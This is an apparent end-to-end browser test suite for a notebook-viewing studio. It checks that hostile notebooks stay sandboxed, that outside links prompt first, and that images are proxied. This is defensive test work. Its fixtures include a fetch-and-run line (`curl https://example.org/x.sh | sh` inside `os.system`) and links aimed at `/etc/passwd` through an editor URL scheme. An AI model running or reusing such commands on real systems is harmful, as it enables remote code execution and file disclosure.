// The studio in Debian's Chromium against a real server: a person signs in, makes a workspace, reviews and uploads
// notebooks after agreeing to the trust statement, and reads them. Hostile notebooks run nothing in the page;
// their outputs run only inside sandboxed frames from the content origin, which cannot reach the page, storage or
// the network; links and images go through the server's check.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import { mkdirSync } from "node:fs";
import type { Page } from "playwright-core";
import { assertFramesContained, FRAME_ESCAPES } from "./frame-escapes.ts";
import { launchBrowser, type Browser } from "./browser.ts";
import { frameAttackNotebook, pageAttackNotebook } from "./hostile-notebooks.ts";
import { pwnedMark } from "./hostile-marker.ts";
import { freePort, startBrowserStudio, type BrowserStudio } from "./running-studio.ts";
import { png } from "../png-fixture.ts";

const PASSWORD = "studio test password";
const SHOTS = new URL("../../test-results/screenshots/", import.meta.url).pathname;
let studio: BrowserStudio;
let browser: Browser;
let beacon: Server;
let beaconUrl = "";
const beaconHits: string[] = [];
let workspaceUrl = "";
// A web server the studio is told it may fetch images from (an explicit loopback allowance, as for development).
let images: Server;
let imagesUrl = "";
const imageRequests: { url: string; cookie: string | undefined; referer: string | undefined }[] = [];

before(async () => {
  mkdirSync(SHOTS, { recursive: true });
  beacon = createServer((req, res) => {
    beaconHits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" }).end("ok");
  });
  await new Promise<void>((resolve) => beacon.listen(0, "127.0.0.1", resolve));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as { port: number }).port}/`;
  const imagesPort = await freePort();
  images = createServer((req, res) => {
    imageRequests.push({ url: req.url ?? "", cookie: req.headers.cookie, referer: req.headers.referer });
    res.writeHead(200, { "content-type": "image/png", "set-cookie": "tracker=1" }).end(png(40, 20));
  });
  await new Promise<void>((resolve) => images.listen(imagesPort, "127.0.0.1", resolve));
  imagesUrl = `http://127.0.0.1:${imagesPort}/`;
  studio = await startBrowserStudio([{ name: "ada", password: PASSWORD }], {
    "image-allow-loopback": `127.0.0.1:${imagesPort}`,
  });
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await studio?.close();
  beacon?.close();
  images?.close();
});

/** Console errors the page reports, except the refusals of the CSP and of the frames' sandbox: those are the defences working. */
function watchErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(`pageerror: ${error.message}`));
  page.on("console", (message) => {
    if (message.type() !== "error") return;
    const text = message.text();
    if (/Content Security Policy|Failed to load resource|sandboxed/.test(text)) return;
    errors.push(text);
  });
  return errors;
}

/** Counts the dialogs (alert, confirm, prompt) a page opens, dismissing each. */
function countDialogs(page: Page): { count: number } {
  const seen = { count: 0 };
  page.on("dialog", (d) => {
    seen.count += 1;
    void d.dismiss();
  });
  return seen;
}

/** Signs in through the form, unless the browser's session (an HttpOnly cookie) is still live. */
async function signIn(page: Page): Promise<void> {
  await page.goto(`${studio.app}/`);
  const workspaces = page.getByRole("heading", { name: "Workspaces" });
  const form = page.getByLabel("User name");
  await workspaces.or(form).waitFor();
  if (await workspaces.isVisible()) return;
  await form.fill("ada");
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { name: "Workspaces" }).waitFor();
}

test("sign in, make a workspace, review and upload with the trust statement", async () => {
  const page = await browser.context.newPage();
  const errors = watchErrors(page);
  await signIn(page);
  await page.getByLabel("New workspace").fill("Lab");
  await page.getByRole("button", { name: "Create" }).click();
  await page.getByRole("heading", { name: "Lab" }).waitFor();
  workspaceUrl = page.url();
  assert.match(new URL(workspaceUrl).pathname, /^\/w\/[A-Za-z0-9_-]{16}$/);

  await page.getByLabel("Upload files…").setInputFiles([
    {
      name: "page-attack.ipynb",
      mimeType: "application/json",
      buffer: Buffer.from(JSON.stringify(pageAttackNotebook(beaconUrl))),
    },
    {
      name: "frames.ipynb",
      mimeType: "application/json",
      buffer: Buffer.from(JSON.stringify(frameAttackNotebook(beaconUrl))),
    },
    {
      name: "fetch.py",
      mimeType: "text/x-python",
      buffer: Buffer.from("import os\nos.system('curl https://example.org/x.sh | sh')\n"),
    },
    { name: "broken.ipynb", mimeType: "application/json", buffer: Buffer.from('{"nbformat": 4,') },
  ]);
  const dialog = page.getByRole("dialog", { name: /Upload 4 files/ });
  await dialog.waitFor();
  // The review comes first: what each file would do, and which one the upload would refuse.
  await dialog.getByText("Will be refused").waitFor();
  await dialog.locator(".vt-sev-high").first().waitFor();
  const upload = dialog.getByRole("button", { name: "Upload" });
  assert.equal(await upload.isDisabled(), true, "no upload before the trust statement is ticked");
  const statement = dialog.getByLabel(/I have reviewed these files, or they come from a source I trust/);
  assert.equal(await statement.isChecked(), false);
  await page.screenshot({ path: `${SHOTS}studio-upload-review.png` });
  await statement.check();
  await upload.click();
  await dialog.getByText("Stored as version 1").nth(2).waitFor();
  await page.screenshot({ path: `${SHOTS}studio-upload-done.png` });
  await dialog.getByRole("button", { name: "Close" }).click();
  for (const name of ["page-attack.ipynb", "frames.ipynb", "fetch.py"])
    await page.getByRole("link", { name }).waitFor();
  assert.equal(await page.getByRole("link", { name: "broken.ipynb" }).count(), 0, "the refused file was not stored");
  assert.deepEqual(errors, []);
  await page.close();
});

test("a hostile notebook runs nothing in the studio page and reaches nothing", async () => {
  const page = await browser.context.newPage();
  const errors = watchErrors(page);
  const dialogs = countDialogs(page);
  await signIn(page);
  await page.goto(`${workspaceUrl}/f/page-attack.ipynb`);
  await page.locator(".vt-cell").first().waitFor({ state: "attached" });
  await page.locator(".vt-image-blocked").first().waitFor();
  await page.waitForTimeout(500);
  assert.equal(await pwnedMark(page), null);
  assert.equal(dialogs.count, 0);
  assert.deepEqual(beaconHits, [], "the page never called the beacon");
  // The fake overlay is held inside its cell's box: it covers none of the studio's controls.
  const signOut = await page.getByRole("button", { name: "Sign out" }).boundingBox();
  const hit = await page.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.textContent ?? "", {
    x: (signOut?.x ?? 0) + 5,
    y: (signOut?.y ?? 0) + 5,
  });
  assert.equal(hit, "Sign out");
  assert.deepEqual(errors, []);
  await page.screenshot({ path: `${SHOTS}studio-hostile-page.png`, fullPage: false });
  await page.close();
});

test("outputs run only in their sandboxed frames on the content origin, which cannot get out", async () => {
  const page = await browser.context.newPage();
  const errors = watchErrors(page);
  const dialogs = countDialogs(page);
  await signIn(page);
  await page.goto(`${workspaceUrl}/f/frames.ipynb`);
  await page.locator("iframe.vt-frame").first().waitFor();
  const frames = page.locator("iframe.vt-frame");
  assert.equal(await frames.count(), 4);
  for (let i = 0; i < 4; i++) {
    const frame = frames.nth(i);
    assert.equal(await frame.getAttribute("sandbox"), "allow-scripts");
    assert.equal(new URL((await frame.getAttribute("src")) ?? "").origin, studio.content);
  }
  // Each script-bearing output records, in its own document, what it could reach. (The markdown output's script
  // was removed by the sanitizer before the frame got it.)
  await assertFramesContained(page, [...FRAME_ESCAPES, "indexedDB"]);
  assert.equal(dialogs.count, 0, "sandboxed frames cannot open dialogs");
  assert.equal(await pwnedMark(page), null);
  assert.deepEqual(beaconHits, []);
  // Frames are sized from their height messages, those out of view included.
  await page.waitForFunction(() =>
    [...document.querySelectorAll<HTMLIFrameElement>("iframe.vt-frame")].every((f) => f.style.height !== ""),
  );
  const heights = await frames.evaluateAll((list) =>
    list.map((f) => (f as HTMLIFrameElement).getBoundingClientRect().height),
  );
  assert.ok(
    heights.every((h) => h >= 16 && h <= 4000),
    JSON.stringify(heights),
  );
  assert.deepEqual(errors, []);
  await page.screenshot({ path: `${SHOTS}studio-frames.png`, fullPage: true });
  await page.close();
});

test("addresses are stable: back and forward work, and a script opens highlighted with line numbers", async () => {
  const page = await browser.context.newPage();
  await signIn(page);
  await page.goto(workspaceUrl);
  await page.getByRole("link", { name: "fetch.py" }).click();
  await page.locator(".vt-script").waitFor();
  assert.match(decodeURIComponent(new URL(page.url()).pathname), /\/f\/fetch\.py$/);
  assert.equal(await page.locator(".vt-line-number").count(), 3);
  assert.ok((await page.locator(".vt-script .hljs-keyword, .vt-script .hljs-built_in").count()) > 0, "highlighted");
  await page.getByText(/Review: 1 high|Review: \d+ high/).waitFor();
  await page.goBack();
  await page.getByRole("heading", { name: "Lab" }).waitFor();
  await page.goForward();
  await page.locator(".vt-script").waitFor();
  await page.screenshot({ path: `${SHOTS}studio-script.png` });
  await page.close();
});

test("links ask before they leave, refuse what is dangerous, and images come only through the proxy", async () => {
  const page = await browser.context.newPage();
  const errors = watchErrors(page);
  await signIn(page);
  const notebook = {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      {
        cell_type: "markdown",
        id: "links",
        metadata: {},
        source: [
          "# Links\n",
          "[external](https://example.org/docs) [application](vscode://file/etc/passwd) [the API](/api/session) ",
          "[router](http://192.168.1.1/admin) [next part](part2.ipynb) [up](#links) [all workspaces](/)\n\n",
          `![chart](${imagesUrl}chart.png) ![private](${beaconUrl}private.png)`,
        ],
      },
      {
        cell_type: "code",
        id: "output-link",
        execution_count: 1,
        metadata: {},
        source: "HTML(...)",
        outputs: [
          {
            output_type: "display_data",
            metadata: {},
            data: { "text/html": '<p><a href="vscode://file/etc/hosts">open in editor</a></p>' },
          },
        ],
      },
    ],
  };
  const id = new URL(workspaceUrl).pathname.split("/")[2];
  const stored = await page.evaluate(
    async ({ id, body }) => {
      const { csrfToken } = await (await fetch("/api/session")).json();
      const form = new FormData();
      form.append("acknowledgment", "trusted-source-v1");
      form.append("file", new Blob([body]), "links.ipynb");
      return (
        await fetch(`/api/workspaces/${id}/files`, {
          method: "POST",
          headers: { "x-csrf-token": csrfToken },
          body: form,
        })
      ).status;
    },
    { id, body: JSON.stringify(notebook) },
  );
  assert.equal(stored, 201);
  await page.goto(`${workspaceUrl}/f/links.ipynb`);

  // The allowed image is shown from the content origin's proxy, which fetched it without cookies or referrer.
  const chart = page.getByRole("img", { name: "chart" });
  await chart.waitFor();
  await page.waitForFunction(
    () => (document.querySelector('img[alt="chart"]') as HTMLImageElement | null)?.naturalWidth === 40,
  );
  assert.equal(new URL((await chart.getAttribute("src")) ?? "").origin, studio.content);
  assert.equal(imageRequests.length, 1);
  assert.equal(imageRequests[0]?.cookie, undefined);
  assert.equal(imageRequests[0]?.referer, undefined);
  // The one from a private address is refused, with the reason, and never requested.
  await page.locator(".vt-image-blocked", { hasText: "private or special network" }).waitFor();
  assert.deepEqual(beaconHits, []);

  const dialog = page.getByRole("dialog");
  await page.getByRole("link", { name: "external" }).click();
  await dialog.getByRole("heading", { name: "This link leaves the studio" }).waitFor();
  assert.match(await dialog.innerText(), /example\.org/);
  await page.screenshot({ path: `${SHOTS}studio-link-prompt.png` });
  await dialog.getByRole("button", { name: "Cancel" }).click();

  // Markdown keeps no application link (the sanitizer allows web, mail and in-page links only)...
  assert.equal(await page.getByRole("link", { name: "application" }).count(), 0);
  // ...but an output may have one: a click inside its frame comes to the page, which asks.
  await page.frameLocator("iframe.vt-frame").getByRole("link", { name: "open in editor" }).click();
  await dialog.getByRole("heading", { name: "This link opens an application" }).waitFor();
  assert.match(await dialog.innerText(), /Visual Studio Code|vscode/i);
  await dialog.getByRole("button", { name: "Cancel" }).click();

  await page.getByRole("link", { name: "the API" }).click();
  await dialog.getByRole("heading", { name: "This link is blocked" }).waitFor();
  assert.equal(await dialog.getByRole("button", { name: "Open" }).count(), 0, "no way through to the studio's own API");
  await dialog.getByRole("button", { name: "Close" }).click();

  // A link elsewhere in the studio, outside this workspace, asks first, then opens in place.
  await page.getByRole("link", { name: "all workspaces" }).click();
  await dialog.getByRole("heading", { name: "This link leaves this workspace" }).waitFor();
  assert.equal(
    await dialog.getByRole("button", { name: /^Trust/ }).count(),
    0,
    "nothing to trust about the studio itself",
  );
  await dialog.getByRole("button", { name: "Open" }).click();
  await page.waitForURL((url) => url.pathname === "/");
  await page.goBack();
  await page.waitForURL(/\/f\/links\.ipynb$/);
  await page.getByRole("link", { name: "next part" }).waitFor();

  // A link to another file of the workspace is followed in the studio itself.
  await page.getByRole("link", { name: "next part" }).click();
  await page.waitForURL(/\/f\/part2\.ipynb$/);
  await page.getByText("There is no such file here.").waitFor();
  assert.deepEqual(
    errors.filter((e) => !/404/.test(e)),
    [],
  );
  await page.close();
});
